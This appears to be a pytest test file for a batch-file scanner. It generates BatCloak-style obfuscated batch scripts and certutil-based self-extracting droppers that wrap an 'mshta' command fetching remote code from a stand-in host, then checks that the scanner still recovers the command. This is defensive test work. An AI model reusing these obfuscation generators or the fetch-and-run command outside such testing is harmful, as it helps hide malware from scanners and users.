"""What batch files hide comes back, whatever the seed: the ways of BatCloak and its kind, of self-extracting files and of droppers, layer over layer."""

from __future__ import annotations

import base64
import random as randoms

import pytest

from emoscan.budget import Budget, Limits
from emoscan.evaluate.cmd.run import evaluate
from emoscan.model import Fact

SPECIAL = '&|<>^"%!()='


def word(random):
    return "".join(random.choice("abcdefghijkmopqrtuvwxyzABCDEFGH") for _ in range(random.randint(4, 8))) + "q"


def cut(random, text, most=5):
    pieces = []
    while text:
        size = random.randint(1, most)
        pieces, text = [*pieces, text[:size]], text[size:]
    return pieces


# Each gives the lines of a batch file that run one line.


def fragments(random, line):
    pieces = [(word(random) + str(i), piece) for i, piece in enumerate(cut(random, line))]
    form = random.choice(('set "{}={}"', "set {}={}", '@set "{}={}"'))
    if any(piece[-1:] == " " or any(c in SPECIAL for c in piece) for _, piece in pieces):
        form = 'set "{}={}"'
    return [form.format(name, piece) for name, piece in random.sample(pieces, len(pieces))] + ["".join(f"%{name}%" for name, _ in pieces)]


def renamed_set(random, line):
    name, value = word(random), word(random)
    return [f'set "{name}=set "', f'%{name}%"{value}={line}"', f"%{value}%"]


def undefined_between(random, line):
    return ["".join(c + (f"%{word(random)}%" if random.random() < 0.6 else "") for c in line)]


def picked_letters(random, line):
    name = word(random)
    letters = random.sample(sorted(set(line)), len(set(line)))
    alphabet = "".join(letters)
    return [f'set "{name}={alphabet}"', "".join(f"%{name}:~{alphabet.index(c)},1%" for c in line)]


def picked_in_a_loop(random, line):
    name, out = word(random), word(random)
    alphabet = "".join(random.sample(sorted(set(line)), len(set(line))))
    return [
        "setlocal EnableDelayedExpansion",
        f'set "{name}={alphabet}"',
        f'for %%n in ({" ".join(str(alphabet.index(c)) for c in line)}) do set "{out}=!{out}!!{name}:~%%n,1!"',
        f"!{out}!",
    ]


def turned_round(random, line):
    name, n, out = word(random), word(random), word(random)
    return [
        "setlocal EnableDelayedExpansion",
        f'set "{name}={line[::-1]}"',
        f"set {n}=0",
        f":{out}l",
        f"set c=!{name}:~%{n}%,1!",
        'if not "!c!"=="" (',
        f"set {out}=!c!!{out}!",
        f"set /a {n}+=1",
        f"goto {out}l",
        ")",
        f"!{out}!",
    ]


def replaced(random, line):
    name, mark = word(random), random.choice(("zZ", "#", "@@"))
    while mark.lower() in line.lower():
        mark += "#"
    return [f'set "{name}={mark.join(cut(random, line))}"', f'set "{name}=%{name}:{mark}=%"', f"%{name}%"]


def called(random, line):
    label = word(random)
    first, _, rest = line.partition(" ")
    return [
        f'call :{label} "{first}" {rest}' if '"' not in line else f"goto {label}",
        "exit /b",
        f":{label}",
        "%~1 %2 %3 %4" if '"' not in line else line,
        "exit /b",
    ]


def of_a_text(random, line):
    return random.choice((
        [f'for /f "delims=" %%a in ("{line}") do %%a'] if '"' not in line else [line],
        [f'for /f "tokens=2 delims=;" %%a in ("x;{line};y") do cmd /c %%a'] if '"' not in line else [line],
        [f"echo {line}|cmd"] if not any(c in SPECIAL for c in line) else [line],
        [f'cmd /v:on /c "set x={line}&&!x!"'] if not any(c in SPECIAL for c in line) else [line],
    ))  # fmt: skip


LINES = (fragments, renamed_set, undefined_between, picked_letters, picked_in_a_loop, turned_round, replaced, called, of_a_text)

# Each gives a batch file that writes and runs another one.


def decoded(random, lines):
    blob = base64.b64encode("\r\n".join(lines).encode()).decode()
    n = word(random)
    return [
        *(f"echo {blob[i : i + 70]}>>%TEMP%\\{n}.b64" for i in range(0, len(blob), 70)),
        f"certutil -f -decode %TEMP%\\{n}.b64 %TEMP%\\{n}.bat >nul",
        f"call %TEMP%\\{n}.bat",
    ]


def decoded_from_itself(random, lines):
    blob = base64.b64encode("\r\n".join(lines).encode()).decode()
    n = word(random)
    return [
        f'certutil -f -decode "%~f0" "%TEMP%\\{n}.bat" >nul 2>&1',
        f'cmd /c "%TEMP%\\{n}.bat"',
        "exit /b",
        "-----BEGIN CERTIFICATE-----",
        *(blob[i : i + 64] for i in range(0, len(blob), 64)),
        "-----END CERTIFICATE-----",
    ]


def found_in_itself(random, lines):
    n, mark = word(random), random.choice(("::", "rem#", "#~#"))
    return [
        f'findstr /b /c:"{mark}" "%~f0" >"%TEMP%\\{n}.txt"',
        f'for /f "usebackq tokens=* delims=" %%a in ("%TEMP%\\{n}.txt") do (',
        "set l=%%a",
        "setlocal EnableDelayedExpansion",
        f'>>"%TEMP%\\{n}.cmd" echo(!l:~{len(mark)}!',
        "endlocal",
        ")",
        f'call "%TEMP%\\{n}.cmd"',
        "exit /b",
        *(mark + line for line in lines),
    ]


def more_of_itself(random, lines):
    n = word(random)
    return [f'more +4 "%~f0" > "%TEMP%\\{n}.bat"', f'call "%TEMP%\\{n}.bat"', "exit /b", *lines]


FILES = (decoded, decoded_from_itself, found_in_itself, more_of_itself)


def runs(lines):
    found = []
    evaluate("\r\n".join(["@echo off", *lines]), Budget(Limits()), found.append, ("a.bat",))
    return [item.value for item in found if isinstance(item, Fact) and item.kind == "effect.run"]


@pytest.mark.parametrize("make", LINES, ids=lambda make: make.__name__)
def test_lines(make):
    for seed in range(60):
        random = randoms.Random(f"{make.__name__}{seed}")
        command = f"mshta http://a.example.test/{seed}"
        lines = make(random, command)
        assert command in runs(lines), "\n".join(lines)


@pytest.mark.parametrize("block", range(6))
def test_files_in_files(block):
    for seed in range(60 * block, 60 * block + 60):
        random = randoms.Random(seed)
        command = f"mshta http://a.example.test/{seed}"
        lines = random.choice(LINES)(random, command)
        for _ in range(random.randint(1, 3)):
            lines = random.choice(FILES)(random, ["@echo off", *lines])
            if random.random() < 0.5:
                lines = [*fragments(random, lines[0]), *lines[1:]] if "%" not in lines[0] and ">" not in lines[0] else lines
        assert command in runs(lines), "\n".join(lines)
